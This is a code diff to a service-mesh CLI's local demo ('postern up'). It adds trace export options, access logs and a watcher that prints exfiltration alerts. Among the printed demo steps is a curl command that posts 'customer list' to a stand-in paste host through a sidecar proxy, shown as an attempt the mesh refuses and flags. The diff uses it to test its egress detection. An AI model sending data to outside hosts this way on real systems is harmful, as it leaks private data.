@@ -20,6 +20,8 @@ import {
   stopChild,
   waitUntilHealthy,
 } from './processes.ts';
+import { watchAlerts } from './up/alert-watcher.ts';
+import { startTracePrinter } from './up/trace-printer.ts';
 
 const NAMESPACE = 'shop';
 /** Where `postern up` looks for a Redis for global rate limits. */
@@ -103,6 +105,7 @@ function instructions(
   frontend: Workload,
   orders: Workload,
   redis: string | undefined,
+  telemetry: UpTelemetry,
 ): string {
   const rel = (p: string) => relative(process.cwd(), p) || '.';
   const curl = (w: Workload, path: string, withCert = true) =>
@@ -142,9 +145,67 @@ Metrics (Prometheus text) and the applied policy snapshot, per sidecar:
   curl -s http://127.0.0.1:${orders.adminPort}/config
 What each sidecar applied (like istioctl proxy-status; operators only, this is the operator's certificate):
   curl -sS --cacert ${rel(join(operatorDir, 'bundle.pem'))} --cert ${rel(join(operatorDir, 'cert.pem'))} --key ${rel(join(operatorDir, 'key.pem'))} https://localhost:${cpPort}/v1/acks
-Traces: not exported yet (OTel export arrives with the telemetry work); request metrics are on /metrics above.
+${tracesLine(telemetry.traces)}
+${
+  telemetry.accessLog
+    ? `Access logs (one JSON line per request): ${rel(join(stateDir, 'logs'))}/<workload>-access.log`
+    : 'Access logs: off (--access-log off).'
+}
+
+Exfiltration alerts print here as the control plane raises them (detectors learn for ${demoLearning()} first; usage windows are ${DEMO_USAGE_WINDOW}). After that, try:
+  frontend's app sending data outside the mesh (refused, and an egress alert):
+    curl -sS -x http://127.0.0.1:${frontend.outboundPort} -d 'customer list' http://paste.example.com/upload
+  you calling orders directly, a caller->route pair never seen before (403, and a novelty alert):
+    ${curl(orders, '/orders')}
 Edit the RoutePolicy YAML in ${rel(policiesDir)} while this runs: the sidecars pick up the change. Ctrl-C stops everything.
 `;
+}
+
+/** What `postern up` does with traces: nothing, print them here, or export them to an OTLP endpoint. */
+export type TracesMode = { kind: 'off' } | { kind: 'print' } | { kind: 'otlp'; endpoint: string };
+
+interface UpTelemetry {
+  readonly traces: TracesMode;
+  readonly accessLog: boolean;
+}
+
+/**
+ * The demo's detectors learn briefly and windows are short, so that alerts
+ * show within a minute; POSTERN_DETECTION_LEARNING in up's environment
+ * sets the learning period instead.
+ */
+const DEMO_LEARNING = '30s';
+const demoLearning = () => process.env.POSTERN_DETECTION_LEARNING || DEMO_LEARNING;
+const DEMO_USAGE_WINDOW = '5s';
+
+function tracesLine(traces: TracesMode): string {
+  switch (traces.kind) {
+    case 'off':
+      return "Traces: off. Run with --traces print to see each request's trace here, or --traces http://localhost:4318 to send them to Jaeger or any OTel collector (README, Telemetry).";
+    case 'print':
+      return "Traces: each request's trace prints here once it is complete (--traces print).";
+    case 'otlp':
+      return `Traces: exported over OTLP/HTTP to ${traces.endpoint} (metrics and logs too).`;
+  }
+}
+
+/**
+ * The OTEL_* variables the children get: print sends traces only, in OTLP
+ * JSON, to the printer `up` runs; an endpoint gets every signal in the
+ * default protobuf encoding. Off adds nothing (OTEL_* in up's own
+ * environment still reach the children, as for any process).
+ */
+function otelEnv(traces: TracesMode, printerUrl: string | undefined): Record<string, string> {
+  if (traces.kind === 'print')
+    return {
+      OTEL_EXPORTER_OTLP_ENDPOINT: printerUrl!,
+      OTEL_EXPORTER_OTLP_PROTOCOL: 'http/json',
+      OTEL_METRICS_EXPORTER: 'none',
+      OTEL_LOGS_EXPORTER: 'none',
+      OTEL_BSP_SCHEDULE_DELAY: '500',
+    };
+  if (traces.kind === 'otlp') return { OTEL_EXPORTER_OTLP_ENDPOINT: traces.endpoint };
+  return {};
 }
 
 /** Waits until the tester's call to frontend (the first one `instructions` prints) answers 200. */
@@ -169,8 +230,21 @@ async function demoAnswers(
   }
 }
 
+/** An mTLS client as the operator identity `up` wrote, for the alert list. */
+async function operatorAgent(operatorDir: string): Promise<Agent> {
+  const [cert, key, ca] = await Promise.all(
+    ['cert.pem', 'key.pem', 'bundle.pem'].map((name) => readFile(join(operatorDir, name), 'utf8')),
+  );
+  return new Agent({ connect: { cert, key, ca } });
+}
+
 /** `postern up`: every part as its own process, configured only by flags and POSTERN_* variables, as in a pod. */
-export async function runUp(options: { policiesDir: string; stateDir: string }): Promise<number> {
+export async function runUp(options: {
+  policiesDir: string;
+  stateDir: string;
+  traces: TracesMode;
+  accessLog: boolean;
+}): Promise<number> {
   const stateDir = resolve(options.stateDir);
   const logs = join(stateDir, 'logs');
   await mkdir(logs, { recursive: true });
@@ -185,8 +259,16 @@ export async function runUp(options: { policiesDir: string; stateDir: string }):
   });
 
   const children: Child[] = [];
+  const printer =
+    options.traces.kind === 'print'
+      ? await startTracePrinter((text) => process.stdout.write(text))
+      : undefined;
+  const otel = otelEnv(options.traces, printer?.url);
+  let stopWatching: (() => void) | undefined;
   const stopAll = async () => {
+    stopWatching?.();
     for (const child of [...children].reverse()) await stopChild(child);
+    await printer?.close();
   };
   let stopping = false;
   const stopped = new Promise<number>((done) => {
@@ -210,7 +292,11 @@ export async function runUp(options: { policiesDir: string; stateDir: string }):
       stateDir,
       apiPort: cpPort,
       logFile: join(logs, 'control-plane.log'),
-      ...(redis ? { env: { POSTERN_REDIS_URL: redis } } : {}),
+      env: {
+        ...otel,
+        POSTERN_DETECTION_LEARNING: demoLearning(),
+        ...(redis ? { POSTERN_REDIS_URL: redis } : {}),
+      },
     });
     children.push(controlPlane);
     const verifyCa = new Agent({ connect: { ca: ca.bundlePem } });
@@ -261,6 +347,9 @@ export async function runUp(options: { policiesDir: string; stateDir: string }):
           POSTERN_INBOUND_PORT: String(workload.inboundPort),
           POSTERN_OUTBOUND_PORT: String(workload.outboundPort),
           POSTERN_ADMIN_PORT: String(workload.adminPort),
+          POSTERN_USAGE_WINDOW: DEMO_USAGE_WINDOW,
+          POSTERN_ACCESS_LOG: options.accessLog ? join(logs, `${name}-access.log`) : 'off',
+          ...otel,
         },
         join(logs, `${name}-sidecar.log`),
       );
@@ -289,8 +378,17 @@ export async function runUp(options: { policiesDir: string; stateDir: string }):
         frontend,
         orders,
         redis,
+        options,
       ),
     );
+    const operator = await operatorAgent(operatorDir);
+    const unwatch = watchAlerts(`https://127.0.0.1:${cpPort}`, operator, (line) =>
+      process.stdout.write(line),
+    );
+    stopWatching = () => {
+      unwatch();
+      void operator.close();
+    };
   } catch (error) {
     process.stderr.write(`postern up: ${(error as Error).message}; see the logs in ${logs}\n`);
     await stopAll();
